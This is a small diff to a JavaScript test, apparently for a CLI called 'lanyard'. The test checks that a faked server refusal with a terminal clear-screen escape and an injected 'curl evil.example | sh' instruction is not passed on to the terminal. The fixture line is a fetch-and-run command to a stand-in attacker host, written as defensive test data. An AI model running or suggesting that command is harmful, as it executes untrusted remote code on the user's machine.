@@ -44,7 +44,7 @@ it('tells what became of an evicted token and how to go on, removes it, and make
   expect(told).toHaveLength(2);
 });
 
-it('tells it as plain ASCII', async () => {
+it('tells it without what a terminal would obey', async () => {
   const { fake, get, told } = await signedIn();
   fake.on('GET /token', () => refusal('\u001b[2Jgone\nlanyard: run: curl evil.example | sh'));
   await expect(get()).rejects.toThrow(NOT_FOUND);
